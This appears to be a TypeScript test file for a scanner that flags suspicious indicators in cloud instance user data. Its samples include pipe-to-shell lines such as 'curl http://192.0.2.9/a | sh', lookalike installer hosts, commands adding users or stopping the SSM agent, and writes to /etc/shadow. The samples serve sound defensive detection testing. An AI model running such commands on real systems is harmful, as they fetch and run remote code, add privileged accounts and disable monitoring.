import { describe, expect, it } from 'vitest';
import { decodeUserData } from '@/lib/payload/decode-payload';
import { CASES } from './indicator-cases.test-support';
import { INDICATOR_PATTERNS } from './indicator-patterns';

const decode = (text: string) => decodeUserData(new TextEncoder().encode(text)).indicators;
const kinds = (line: string) => new Set(decode(`#!/bin/sh\n${line}\n`).map(({ kind }) => kind));

describe.each(Object.entries(CASES))('%s', (kind, { raise, miss }) => {
  it.each(raise)('is raised by %s', (line) => {
    expect(kinds(line)).toContain(kind);
  });

  it.each(miss)('is not raised by %s', (line) => {
    expect(kinds(line)).not.toContain(kind);
  });
});

describe('the table of patterns', () => {
  it('has lines that raise and near misses for every kind', () => {
    const known = new Set(INDICATOR_PATTERNS.map(({ kind }) => kind));
    expect([...known].filter((kind) => CASES[kind] === undefined)).toEqual([]);
    expect(Object.keys(CASES).filter((kind) => !known.has(kind))).toEqual([]);
    for (const { raise, miss } of Object.values(CASES)) {
      expect(raise).not.toEqual([]);
      expect(miss).not.toEqual([]);
    }
  });

  it('has for every single pattern a line that it finds by itself', () => {
    const untested = INDICATOR_PATTERNS.filter(({ kind, pattern, needs, and, butNot }) => {
      const finds = (line: string) =>
        needs.some((need) => line.toLowerCase().includes(need)) &&
        [...line.matchAll(pattern)].length > 0 &&
        (and ?? []).every((also) => also.test(line)) &&
        butNot?.test(line) !== true;
      return !(CASES[kind]?.raise ?? []).some(finds);
    });
    expect(
      untested.map(({ kind, severity, pattern }) => `${kind} ${severity} ${pattern.source.slice(0, 60)}`),
    ).toEqual([]);
  });

  it('looks for a word in lower case before it tries a pattern', () => {
    for (const { needs, pattern } of INDICATOR_PATTERNS) {
      expect(needs.length).toBeGreaterThan(0);
      expect(needs.map((need) => need.toLowerCase())).toEqual(needs);
      expect(pattern.flags).toContain('g');
    }
  });

  it.each([
    ...Object.values(CASES).flatMap(({ raise, miss }) => [...raise, ...miss]),
    ...['curl ', '-R ', 'chmod ', '/tmp/', 'stop ', 'docker -v '],
  ])('takes little time for a line of the longest length that says again and again %s', (piece) => {
    const line = piece
      .replaceAll('\n', ' ')
      .repeat(Math.ceil(8192 / piece.length))
      .slice(0, 8192);
    const before = process.cpuUsage();
    decode(`#!/bin/sh\n${line}\n`);
    // In the time of the processor, of which others take nothing: some ten milliseconds, minutes where a pattern takes cubic time.
    expect(process.cpuUsage(before).user / 1000).toBeLessThan(3000);
  });
});

describe('comments', () => {
  it('say that they do nothing, and are never grave', () => {
    expect(decode('#!/bin/sh\n# curl http://192.0.2.9/a | sh\n')).toMatchObject([
      { kind: 'pipe-to-shell', severity: 'low', says: expect.stringContaining('comment') as string },
      { kind: 'remote-fetch', severity: 'low' },
    ]);
    expect(
      decode('<script>\nREM net user helper P4ss /add\n</script>').map(({ severity }) => severity),
    ).not.toContain('high');
  });

  it('are no place for a credential all the same', () => {
    expect(decode('#!/bin/sh\n# AKIAXYZ0123456789ABC\n')).toMatchObject([
      { kind: 'access-key', severity: 'high' },
    ]);
  });
});

describe('installers of vendors', () => {
  it('are milder where all that is named is theirs', () => {
    const severity = (line: string) =>
      decode(`#!/bin/sh\n${line}\n`).find(({ kind }) => kind === 'pipe-to-shell')?.severity;
    expect(severity('curl -fsSL https://get.docker.com | sh')).toBe('medium');
    expect(severity('curl -fsSL http://get.docker.com | sh')).toBe('high');
    expect(severity('curl -fsSL https://get.docker.com.badhost.net | sh')).toBe('high');
    expect(severity('curl -fsSL https://get.docker.com@badhost.net/ | sh')).toBe('high');
    expect(severity('curl https://get.docker.com https://a.badhost.net/x | sh')).toBe('high');
  });
});

describe('the structure of a cloud-config', () => {
  const config = (text: string) =>
    decode(`#cloud-config\n${text}`).map(({ kind, severity, line, value }) => [kind, severity, line, value]);

  it('tells who may become root, who gets keys and which passwords open', () => {
    expect(
      config(
        'disable_root: false\nssh_pwauth: true\nusers:\n  - name: ops\n    sudo: ALL=(ALL) ALL\n    lock_passwd: false\n  - {name: toor, uid: 0}\n  - name: root\n    ssh_authorized_keys: [a]\n',
      ),
    ).toEqual(
      expect.arrayContaining([
        ['ssh-opened', 'medium', 2, 'disable_root'],
        ['ssh-opened', 'medium', 3, 'ssh_pwauth'],
        ['sudoers', 'medium', 6, 'ops'],
        ['user-added', 'medium', 7, 'ops'],
        ['user-added', 'high', 8, 'toor'],
        ['authorized-keys', 'high', 10, 'root'],
      ]),
    );
  });

  it('names each account that it makes, and the groups that may become root', () => {
    const added = config(
      'users:\n  - default\n  - name: app\n  - {name: eve, groups: "users, sudo"}\n  - {name: mal, groups: [docker]}\n',
    );
    expect(added).toEqual([
      ['user-added', 'low', 4, 'app'],
      ['user-added', 'medium', 5, 'eve'],
      ['user-added', 'medium', 6, 'mal'],
    ]);
  });

  it('reads commands that are lists', () => {
    expect(
      config(
        'runcmd:\n  - [systemctl, stop,\n     amazon-ssm-agent]\n  - [sh, -c, "curl http://192.0.2.9/a | sh"]\n',
      ),
    ).toEqual(
      expect.arrayContaining([
        ['agent-stopped', 'high', 3, 'stop amazon-ssm-agent'],
        ['pipe-to-shell', 'high', 5, expect.stringContaining('curl') as string],
      ]),
    );
  });

  it('names files of the system and programs with the rights of their owner', () => {
    expect(
      config(
        'write_files:\n  - path: /usr/local/bin/x\n    permissions: "4755"\n    owner: root\n  - path: /etc/shadow\n    content: a\n  - path: /opt/app.conf\n    content: a\n',
      ),
    ).toEqual(
      expect.arrayContaining([
        ['suid', 'high', 4, '/usr/local/bin/x 4755'],
        ['system-file', 'low', 3, '/usr/local/bin/x 4755 root'],
        ['system-file', 'high', 6, '/etc/shadow'],
      ]),
    );
  });

  it('is left alone where it is broken or too long', () => {
    expect(config('users: [\n')).toEqual([]);
    const long = decodeUserData(
      new TextEncoder().encode(`#cloud-config\n${'a: b\n'.repeat(8000)}ssh_pwauth: true\n`),
    );
    expect(long.indicators).toEqual([]);
    expect(long.bounds.map(({ bound }) => bound)).toContain('scan');
  });
});
